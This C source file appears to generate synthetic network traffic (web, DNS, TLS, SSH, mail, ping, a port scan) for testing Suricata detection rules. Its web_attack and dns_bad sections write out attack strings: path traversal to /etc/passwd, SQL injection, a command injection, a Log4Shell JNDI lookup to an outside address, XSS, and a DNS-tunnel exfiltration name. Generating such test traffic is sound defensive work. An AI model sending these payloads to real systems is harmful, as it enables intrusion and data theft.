/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What is said: web, DNS, TLS, SSH-like, mail, pings, a port scan, and the strings that the shipped
 * Suricata rules (catalog/suricata/files/rules) alert on.
 */
#include "traffic.h"

#include <stdio.h>
#include <string.h>

#include "base/buf.h"
#include "certificate.h"

static const char *pick(struct conversation *c, const char *const *list, size_t count)
{
    return list[traffic_below(c->capture, count)];
}

/* ---- web ---- */

static void http_exchange(struct conversation *c, const char *request, const char *status,
                          const char *body)
{
    struct pk_buf reply = PK_BUF_INIT(1u << 20);
    (void)pk_buf_printf(&reply,
                        "HTTP/1.1 %s\r\nServer: nginx\r\nContent-Type: text/html\r\n"
                        "Content-Length: %zu\r\nConnection: close\r\n\r\n%s",
                        status, strlen(body), body);
    tcp_open(c);
    tcp_text(c, TO_SERVER, request);
    tcp_send(c, TO_CLIENT, reply.data, reply.len);
    tcp_close(c);
    pk_buf_done(&reply);
}

static void http_get(struct conversation *c, const char *host, const char *path, const char *agent,
                     const char *status, const char *body)
{
    char request[1024];
    (void)snprintf(request, sizeof(request),
                   "GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nAccept: */*\r\n"
                   "Connection: close\r\n\r\n",
                   path, host, agent);
    http_exchange(c, request, status, body);
}

static void web(struct conversation *c)
{
    static const char *const hosts[] = { "www.shop.example", "news.example", "intranet.example",
                                         "updates.example", "cdn.example" };
    static const char *const agents[] = { "Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0",
                                          "Mozilla/5.0 (Windows NT 10.0) Chrome/140.0",
                                          "curl/8.5.0" };
    static const char *const statuses[] = { "200 OK", "200 OK", "200 OK", "404 Not Found",
                                            "301 Moved Permanently" };
    char path[64];
    (void)snprintf(path, sizeof(path), "/article/%u.html",
                   (unsigned)traffic_below(c->capture, 5000));
    static char body[6000];
    size_t len = 200 + traffic_below(c->capture, sizeof(body) - 201);
    for (size_t i = 0; i < len; i++)
        body[i] = "the quick brown fox jumps over the lazy dog "[i % 44];
    body[len] = '\0';
    c->server_port = 80;
    http_get(c, pick(c, hosts, PK_ARRAY_SIZE(hosts)), path, pick(c, agents, PK_ARRAY_SIZE(agents)),
             pick(c, statuses, PK_ARRAY_SIZE(statuses)), body);
}

static void web_attack(struct conversation *c)
{
    static const char *const agent = "Mozilla/5.0";
    c->server_port = 80;
    switch (traffic_below(c->capture, 8)) {
    case 0:
        http_get(c, "www.shop.example", "/download?file=../../../../etc/passwd", agent, "200 OK",
                 "root:x:0:0:root:/root:/bin/bash\n");
        break;
    case 1:
        http_get(c, "www.shop.example", "/item?id=1%20UNION%20SELECT%20name,pass%20FROM%20users",
                 "sqlmap/1.8#stable", "500 Internal Server Error", "error");
        break;
    case 2:
        http_get(c, "www.shop.example", "/cgi-bin/status?cmd=id", agent, "200 OK",
                 "uid=0(root) gid=0(root) groups=0(root)\n");
        break;
    case 3:
        http_get(c, "www.shop.example", "/?x=${jndi:ldap://198.51.100.9/a}", agent,
                 "400 Bad Request", "no");
        break;
    case 4:
        http_get(c, "www.shop.example", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", agent,
                 "200 OK", "<script>alert(1)</script>");
        break;
    case 5:
        http_get(c, "intranet.example", "/.git/config", "Mozilla/5.00 (Nikto/2.5.0)", "200 OK",
                 "[core]\n");
        break;
    case 6:
        http_exchange(c,
                      "GET /private HTTP/1.1\r\nHost: intranet.example\r\n"
                      "Authorization: Basic YW5uOnNlY3JldA==\r\nConnection: close\r\n\r\n",
                      "200 OK", "<title>Index of /private</title>");
        break;
    default:
        http_get(c, "updates.example", "/setup.exe", "Wget/1.21", "200 OK",
                 "MZ This program cannot be run in DOS mode.");
        break;
    }
}

/* ---- DNS ---- */

static size_t put_name(uint8_t *at, const char *name)
{
    size_t used = 0;
    while (*name != '\0') {
        size_t label = strcspn(name, ".");
        at[used++] = (uint8_t)label;
        memcpy(at + used, name, label);
        used += label;
        name += label;
        if (*name == '.')
            name++;
    }
    at[used++] = 0;
    return used;
}

static void dns_exchange(struct conversation *c, const char *name, unsigned type, bool exists)
{
    uint8_t message[512] = { 0 };
    uint16_t id = (uint16_t)traffic_random(c->capture);
    message[0] = (uint8_t)(id >> 8);
    message[1] = (uint8_t)id;
    message[2] = 0x01; /* recursion desired */
    message[5] = 1;
    size_t len = 12 + put_name(message + 12, name);
    message[len + 1] = (uint8_t)type;
    message[len + 3] = 1;
    len += 4;
    udp_send(c, TO_SERVER, message, len);

    message[2] = 0x81;
    message[3] = exists ? 0x80 : 0x83;
    if (exists) {
        message[7] = 1;
        const uint8_t head[10] = { 0xc0, 12, 0, (uint8_t)type, 0, 1, 0, 0, 1, 0x2c };
        memcpy(message + len, head, sizeof(head));
        len += sizeof(head);
        size_t data_len = type == 28 ? 16 : 4;
        if (type == 16) {
            const char *text = "v=spf1 -all";
            data_len = strlen(text) + 1;
            message[len + 2] = (uint8_t)(data_len - 1);
            memcpy(message + len + 3, text, data_len - 1);
        } else {
            message[len + 2] = type == 28 ? 0x20 : 203;
            message[len + 1 + data_len] = (uint8_t)traffic_random(c->capture);
        }
        message[len + 1] = (uint8_t)data_len;
        len += 2 + data_len;
    }
    udp_send(c, TO_CLIENT, message, len);
}

static void dns(struct conversation *c)
{
    static const unsigned types[] = { 1, 1, 1, 28, 16 };
    char name[64];
    (void)snprintf(name, sizeof(name), "host%u.%s", (unsigned)traffic_below(c->capture, 900),
                   traffic_below(c->capture, 2) == 0 ? "shop.example" : "news.example");
    c->server_port = 53;
    dns_exchange(c, name, types[traffic_below(c->capture, PK_ARRAY_SIZE(types))],
                 traffic_below(c->capture, 10) != 0);
}

static void dns_bad(struct conversation *c)
{
    c->server_port = 53;
    if (traffic_below(c->capture, 2) == 0)
        dns_exchange(c, "beacon.malware.picket.test", 1, true);
    else
        dns_exchange(c, "dGhpcyBpcyBub3QgYSBuYW1lIGJ1dCBkYXRhIHRoYXQgbGVha3M0.tunnel.example", 16,
                     true);
}

/* ---- TLS 1.2: a handshake in the clear as far as it is, then bytes nobody can read ---- */

static size_t tls_record(uint8_t *at, unsigned type, const uint8_t *data, size_t len)
{
    at[0] = (uint8_t)type;
    at[1] = 3;
    at[2] = 3;
    at[3] = (uint8_t)(len >> 8);
    at[4] = (uint8_t)len;
    memcpy(at + 5, data, len);
    return 5 + len;
}

static size_t handshake(uint8_t *at, unsigned type, const uint8_t *data, size_t len)
{
    uint8_t message[4096];
    message[0] = (uint8_t)type;
    message[1] = 0;
    message[2] = (uint8_t)(len >> 8);
    message[3] = (uint8_t)len;
    memcpy(message + 4, data, len);
    return tls_record(at, 22, message, 4 + len);
}

static size_t client_hello(struct conversation *c, const char *name, uint8_t *out)
{
    uint8_t hello[512] = { 3, 3 };
    size_t at = 2;
    for (unsigned i = 0; i < 32; i++)
        hello[at++] = (uint8_t)traffic_random(c->capture);
    static const uint8_t suites[] = { 0, 0, 6, 0xc0, 0x2f, 0xc0, 0x30, 0x00, 0x9c, 1, 0 };
    memcpy(hello + at, suites, sizeof(suites)); /* empty session id, three suites, no compression */
    at += sizeof(suites);
    size_t len = strlen(name);
    size_t extensions = 9 + len + 8 + 6;
    hello[at++] = (uint8_t)(extensions >> 8);
    hello[at++] = (uint8_t)extensions;
    const uint8_t sni[] = {
        0, 0, 0, (uint8_t)(len + 5), 0, (uint8_t)(len + 3), 0, 0, (uint8_t)len
    };
    memcpy(hello + at, sni, sizeof(sni));
    at += sizeof(sni);
    memcpy(hello + at, name, len); /* NOLINT(bugprone-not-null-terminated-result) */
    at += len;
    static const uint8_t groups[] = { 0, 10, 0, 4, 0, 2, 0, 23, 0, 11, 0, 2, 1, 0 };
    memcpy(hello + at, groups, sizeof(groups));
    at += sizeof(groups);
    return handshake(out, 1, hello, at);
}

static size_t server_hello(struct conversation *c, uint8_t *out)
{
    uint8_t hello[64] = { 3, 3 };
    size_t at = 2;
    for (unsigned i = 0; i < 32; i++)
        hello[at++] = (uint8_t)traffic_random(c->capture);
    hello[at++] = 0;
    hello[at++] = 0xc0;
    hello[at++] = 0x2f;
    hello[at++] = 0;
    hello[at++] = 0; /* no extensions */
    hello[at++] = 0;
    size_t len = handshake(out, 2, hello, at);

    uint8_t chain[2048];
    size_t cert = traffic_certificate_len;
    const uint8_t lengths[6] = { 0, (uint8_t)((cert + 3) >> 8), (uint8_t)(cert + 3),
                                 0, (uint8_t)(cert >> 8),       (uint8_t)cert };
    memcpy(chain, lengths, sizeof(lengths));
    memcpy(chain + sizeof(lengths), traffic_certificate, cert);
    len += handshake(out + len, 11, chain, sizeof(lengths) + cert);
    return len + handshake(out + len, 14, hello, 0);
}

static size_t opaque(struct conversation *c, uint8_t *out, unsigned type, size_t len)
{
    uint8_t data[2048];
    len = PK_MIN(len, sizeof(data));
    for (size_t i = 0; i < len; i++)
        data[i] = (uint8_t)traffic_random(c->capture);
    return tls_record(out, type, data, len);
}

static void tls_exchange(struct conversation *c, const char *name)
{
    static const uint8_t change_cipher_spec[] = { 20, 3, 3, 0, 1, 1 };
    uint8_t out[8192];
    c->server_port = 443;
    tcp_open(c);
    tcp_send(c, TO_SERVER, out, client_hello(c, name, out));
    tcp_send(c, TO_CLIENT, out, server_hello(c, out));
    uint8_t key[66];
    for (size_t i = 0; i < sizeof(key); i++)
        key[i] = (uint8_t)traffic_random(c->capture);
    key[0] = 65;
    size_t len = handshake(out, 16, key, sizeof(key));
    memcpy(out + len, change_cipher_spec, sizeof(change_cipher_spec));
    len += sizeof(change_cipher_spec);
    len += opaque(c, out + len, 22, 40);
    tcp_send(c, TO_SERVER, out, len);
    memcpy(out, change_cipher_spec, sizeof(change_cipher_spec));
    len = sizeof(change_cipher_spec);
    len += opaque(c, out + len, 22, 40);
    tcp_send(c, TO_CLIENT, out, len);
    tcp_send(c, TO_SERVER, out, opaque(c, out, 23, 200 + traffic_below(c->capture, 400)));
    unsigned answers = 1 + (unsigned)traffic_below(c->capture, 4);
    for (unsigned i = 0; i < answers; i++)
        tcp_send(c, TO_CLIENT, out, opaque(c, out, 23, 1000 + traffic_below(c->capture, 1000)));
    tcp_close(c);
}

static void tls(struct conversation *c)
{
    static const char *const names[] = { "www.shop.example", "mail.example", "api.news.example",
                                         "login.example" };
    tls_exchange(c, pick(c, names, PK_ARRAY_SIZE(names)));
}

static void tls_bad(struct conversation *c)
{
    tls_exchange(c, "panel.malware.picket.test");
}

/* ---- SSH as far as it is in the clear: banners and key exchange offers ---- */

static size_t ssh_offer(struct conversation *c, uint8_t *out)
{
    static const char *const lists[] = {
        "curve25519-sha256,diffie-hellman-group14-sha256",
        "ssh-ed25519,rsa-sha2-512",
        "aes256-gcm@openssh.com,aes256-ctr",
        "aes256-gcm@openssh.com,aes256-ctr",
        "hmac-sha2-256",
        "hmac-sha2-256",
        "none",
        "none",
        "",
        "",
    };
    size_t at = 6;
    out[5] = 20;
    for (unsigned i = 0; i < 16; i++)
        out[at++] = (uint8_t)traffic_random(c->capture);
    for (size_t i = 0; i < PK_ARRAY_SIZE(lists); i++) {
        size_t len = strlen(lists[i]);
        memset(out + at, 0, 4);
        out[at + 3] = (uint8_t)len;
        memcpy(out + at + 4, lists[i], len);
        at += 4 + len;
    }
    memset(out + at, 0, 5);
    at += 5;
    size_t padding = 8 - at % 8 + (8 - at % 8 < 4 ? 8 : 0);
    memset(out + at, 0, padding);
    at += padding;
    size_t packet = at - 4;
    out[0] = out[1] = 0;
    out[2] = (uint8_t)(packet >> 8);
    out[3] = (uint8_t)packet;
    out[4] = (uint8_t)padding;
    return at;
}

static void ssh_exchange(struct conversation *c, const char *client_banner)
{
    uint8_t out[2048];
    c->server_port = 22;
    tcp_open(c);
    tcp_text(c, TO_CLIENT, "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n");
    tcp_text(c, TO_SERVER, client_banner);
    tcp_send(c, TO_SERVER, out, ssh_offer(c, out));
    tcp_send(c, TO_CLIENT, out, ssh_offer(c, out));
    for (unsigned i = 0; i < 4; i++)
        tcp_send(c, i % 2 == 0 ? TO_SERVER : TO_CLIENT, out, opaque(c, out, 0, 120));
    tcp_close(c);
}

static void ssh(struct conversation *c)
{
    ssh_exchange(c, "SSH-2.0-OpenSSH_9.6p1 Ubuntu-3\r\n");
}

static void ssh_tool(struct conversation *c)
{
    ssh_exchange(c, "SSH-2.0-libssh_0.9.6\r\n");
}

/* ---- mail ---- */

static void mail(struct conversation *c)
{
    static const struct {
        enum direction direction;
        const char *text;
    } lines[] = {
        { TO_CLIENT, "220 mail.example ESMTP\r\n" },
        { TO_SERVER, "EHLO client.example\r\n" },
        { TO_CLIENT, "250-mail.example\r\n250 8BITMIME\r\n" },
        { TO_SERVER, "MAIL FROM:<ann@client.example>\r\n" },
        { TO_CLIENT, "250 OK\r\n" },
        { TO_SERVER, "RCPT TO:<bob@mail.example>\r\n" },
        { TO_CLIENT, "250 OK\r\n" },
        { TO_SERVER, "DATA\r\n" },
        { TO_CLIENT, "354 go on\r\n" },
        { TO_SERVER, "From: ann@client.example\r\nTo: bob@mail.example\r\nSubject: lunch\r\n\r\n"
                     "At noon?\r\n.\r\n" },
        { TO_CLIENT, "250 queued\r\n" },
        { TO_SERVER, "QUIT\r\n" },
        { TO_CLIENT, "221 bye\r\n" },
    };
    c->server_port = 25;
    tcp_open(c);
    for (size_t i = 0; i < PK_ARRAY_SIZE(lines); i++)
        tcp_text(c, lines[i].direction, lines[i].text);
    tcp_close(c);
}

/* ---- the rest ---- */

static void ping(struct conversation *c)
{
    for (unsigned i = 1; i <= 4; i++) {
        icmp_echo(c, i);
        c->now += 100 * PK_NSEC_PER_MS;
    }
}

/* One host knocks at many doors of another. */
static void scan(struct conversation *c)
{
    static const uint16_t doors[] = { 21,   22,   23,   25,   53,   80,   110,  111,  135,  139,
                                      143,  389,  443,  445,  465,  587,  993,  995,  1433, 1521,
                                      2049, 3306, 3389, 5432, 5900, 6379, 8080, 8443, 9200, 27017 };
    c->window = 1024; /* as Nmap's SYN scan has it */
    for (size_t i = 0; i < PK_ARRAY_SIZE(doors); i++) {
        c->server_port = doors[i];
        c->client_port++;
        tcp_syn_refused(c);
        c->now += 5 * PK_NSEC_PER_MS;
    }
}

static void ntp(struct conversation *c)
{
    uint8_t packet[48] = { 0x23 };
    c->server_port = 123;
    udp_send(c, TO_SERVER, packet, sizeof(packet));
    packet[0] = 0x24;
    udp_send(c, TO_CLIENT, packet, sizeof(packet));
}

const struct kind traffic_kinds[] = {
    { "web", 30, web },        { "dns", 30, dns },        { "tls", 18, tls },
    { "ssh", 5, ssh },         { "mail", 3, mail },       { "ntp", 3, ntp },
    { "ping", 3, ping },       { "scan", 1, scan },       { "web-attack", 3, web_attack },
    { "dns-bad", 2, dns_bad }, { "tls-bad", 1, tls_bad }, { "ssh-tool", 1, ssh_tool },
};
const size_t traffic_kind_count = PK_ARRAY_SIZE(traffic_kinds);
